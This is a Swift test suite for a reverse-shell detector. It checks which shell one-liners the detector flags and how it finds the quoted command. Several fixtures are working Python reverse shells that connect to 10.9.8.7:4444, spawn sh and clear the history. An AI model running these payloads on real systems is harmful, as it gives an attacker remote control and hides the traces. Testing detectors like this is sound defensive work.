import Bytes
import Testing

@testable import Detectors

private func shells(_ text: String) -> [TextDetection] { text.withView { ReverseShellDetector().scan($0, .command) } }

/// Code in a shell's quotes, and other commands around it.
@Suite struct OneLinerTests {
  @Test(arguments: [
    "bash -i -c 'alias'; python3 -c 'import socket;s=socket.socket();s.connect((\"8.8.8.8\",80));print(s.getsockname())'; python3 -c 'import pty;pty.spawn(\"/bin/ls\")'",
    "kubectl exec -it pod -- /bin/sh; perl -MIO::Socket::INET -e 'my $s=IO::Socket::INET->new(PeerAddr=>\"db.h.example\",PeerPort=>80) or exit 1; print while <$s>'; cat <f",
    "php -r '$f=@fsockopen(\"db.h.example\",3306,$e,$s,2); exit($f?0:1);'; grep UP <&3 >&3",
    "ruby -rsocket -e 'TCPSocket.new(\"db.h.example\",5432).close' && exec bash -i",
  ])
  func othersDoNotCount(text: String) { #expect(shells(text).isEmpty) }

  @Test(arguments: [
    "cd /tmp; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.9.8.7\",4444));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'; history -c; ls -la",
    "RHOST=10.9.8.7;RPORT=4444;python3 -c 'import os,socket,pty;s=socket.socket();s.connect((os.getenv(\"RHOST\"),int(os.getenv(\"RPORT\"))));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'; rm -f /tmp/x; ls",
    // Quotes that a log has lost pair up with the wrong ones.
    "ls -la; python3 -c 'import socket,subprocess;s=socket.socket();s.connect(('10.9.8.7',4444));subprocess.call(['/bin/sh','-i'],stdin=s.fileno())'; history -c; ls",
    "sh -c 'python3 -c '\\''import socket,os,pty;s=socket.socket();s.connect((\"10.9.8.7\",4444));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'\\'' &'; ls -la /var/www/html",
  ])
  func itsOwnDoes(text: String) {
    #expect(shells(text).first?.technique == "python")
    #expect(shells(text).first?.host == "10.9.8.7")
    #expect(shells(text).first?.port == 4444)
  }

  @Test func endsWhereItsQuotesDo() {
    let text = "ls; perl -e 'print \"a\"; connect(S)' && exec sh"
    text.withView { view in
      let place = view.firstIndex(of: ByteView("connect"))
      #expect(OneLiner.command(view, around: place ?? 0)?.string == " perl -e 'print \"a\"; connect(S)")
    }
    // Not closed, or nothing opened.
    for text in ["perl -e 'connect(S)", "connect(S)", "x 'connect(S)'", ""] {
      text.withView { #expect(OneLiner.command($0, around: $0.firstIndex(of: ByteView("connect")) ?? 0) == nil) }
    }
  }
}
